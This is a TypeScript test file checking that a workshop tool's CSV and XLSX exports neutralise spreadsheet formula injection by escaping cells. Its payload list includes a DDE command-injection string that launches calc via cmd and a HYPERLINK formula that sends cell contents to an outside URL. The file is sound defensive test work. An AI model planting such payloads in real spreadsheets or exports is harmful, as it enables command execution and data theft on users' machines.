/**
 * No cell of a spreadsheet export runs as a formula: every text cell that opens with = + - @,
 * a tab or a CR is escaped with an apostrophe, on one line or several, whichever field it
 * comes from. Checked on the decoded files (Papa Parse for CSV, exceljs for XLSX).
 */
import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { BACKUP_FORMAT, BACKUP_VERSION, type WorkshopBackup } from '@shared/results/backup';
import { backupBoard, backupCard } from '@shared/results/backup-fixtures';
import { exportQuery } from '@shared/results/export-formats';
import { renderCsv } from '../results/formats/csv-format';
import { neutraliseFormula } from '../results/formats/formula-escape';
import { renderXlsx } from '../results/formats/xlsx-format';

const PAYLOADS = [
  '=1+1',
  '=HYPERLINK("http://example.org/?"&A1;"Cliquez")\nsuite',
  '+33 6 12 34 56 78',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1;2)',
  '\t=1+1',
  '\r=1+1',
  '\r\n=1+1\nsur plusieurs lignes',
];
/** Formula characters further in, or behind a blank: plain text, left as written. */
const HARMLESS = ['Idée = bonne', ' =1+1', '1+1', 'a\n=1+1', ''];

/** One workshop with the payload in every field that reaches a spreadsheet cell. */
function workshopOf(payload: string, i: number): WorkshopBackup {
  const roadmap = { leadKind: null, leadName: payload, partners: payload, due: null, status: 'todo' as const, links: [] };
  const comments = [{ id: 'm1', author: 'p1', authorName: payload, text: 'avis', createdAt: 0, replyTo: null }];
  const card = backupCard({ id: 'k1', column: 'c1', group: 'g1', text: payload, author: 'p1', authorName: payload, authorOrganisation: payload, comments });
  return {
    format: BACKUP_FORMAT,
    version: BACKUP_VERSION,
    exportedAt: 0,
    anonymous: false,
    workshop: { title: payload || 'Atelier', date: null, place: payload, createdAt: 0, archivedAt: null, retentionDays: null },
    participants: [{ id: 'p1', name: payload, joinedAt: 0, kind: null, organisation: payload }],
    boards: [
      backupBoard({
        id: 'b1',
        title: `Tableau ${i}`,
        table: payload,
        columns: [{ id: 'c1', title: payload }],
        groups: [{ id: 'g1', title: payload, column: 'c1', order: 'a0', collapsed: false }],
        cards: [card],
      }),
      backupBoard({ id: 'b2', title: 'Feuille de route', kind: 'roadmap', columns: [{ id: 'c1', title: payload }], cards: [{ ...card, group: null, roadmap }] }),
    ],
  };
}

/** Written apart from the code under test: the OWASP list, on the first character. */
const expected = (text: string) => (/^[=+\-@\t\r]/.test(text) ? `'${text}` : text);
const commentOf = (payload: string) => (payload ? `${payload}\u00a0: avis` : 'avis');

async function xlsxSheets(backup: WorkshopBackup): Promise<ExcelJS.Worksheet[]> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load((await renderXlsx(backup, exportQuery.parse({ format: 'xlsx' }))).body as unknown as ArrayBuffer);
  return workbook.worksheets;
}

const cases = [...PAYLOADS, ...HARMLESS].map((p, i) => [JSON.stringify(p), p, i] as const);

describe('formula escape', () => {
  it('escapes on the first character only, whatever follows', () => {
    for (const payload of PAYLOADS) expect(neutraliseFormula(payload)).toBe(`'${payload}`);
    for (const text of HARMLESS) expect(neutraliseFormula(text)).toBe(text);
  });

  it.each(cases)('csv: %s in every text cell', (_, payload, i) => {
    const text = renderCsv(workshopOf(payload, i), exportQuery.parse({ format: 'csv' })).body.toString('utf8').slice(1);
    const [header, card, action] = Papa.parse<string[]>(text, { delimiter: ';', newline: '\r\n' }).data;
    const cells = (row: string[] | undefined, names: string[]) => names.map((name) => row![header!.indexOf(name)]);
    const escaped = expected(payload);
    expect(cells(card, ['Table', 'Colonne', 'Groupe', 'Texte', 'Auteur', 'Organisation', 'Commentaires', 'Votes'])).toEqual([
      ...Array<string>(6).fill(escaped),
      expected(commentOf(payload)),
      '0',
    ]);
    expect(cells(action, ['Colonne', 'Texte', 'Auteur', 'Porteur', 'Partenaires'])).toEqual(Array<string>(5).fill(escaped));
  });

  it.each(cases)('xlsx: %s in every text cell, none a formula', async (_, payload, i) => {
    const [board, roadmap] = await xlsxSheets(workshopOf(payload, i));
    for (const sheet of [board!, roadmap!]) {
      sheet.eachRow((row) => row.eachCell((cell) => expect(cell.type, cell.address).not.toBe(ExcelJS.ValueType.Formula)));
    }
    const values = (sheet: ExcelJS.Worksheet, refs: string[]) => refs.map((ref) => sheet.getCell(ref).value ?? '');
    // XML reads every CR or CRLF as LF: a CR stays in the file, escaped, but reads back as LF.
    const xml = (text: string) => text.replace(/\r\n?/g, '\n');
    const escaped = xml(expected(payload));
    // Column, group, text, author, organisation, votes, comments, table.
    expect(values(board!, ['A2', 'B2', 'C2', 'D2', 'F2', 'G2', 'I2', 'K2'])).toEqual([
      ...Array<string>(5).fill(escaped),
      0,
      xml(expected(commentOf(payload))),
      escaped,
    ]);
    // Column, action, author, organisation, lead, partners.
    expect(values(roadmap!, ['A2', 'C2', 'D2', 'F2', 'K2', 'L2'])).toEqual(Array<string>(6).fill(escaped));
  });
});
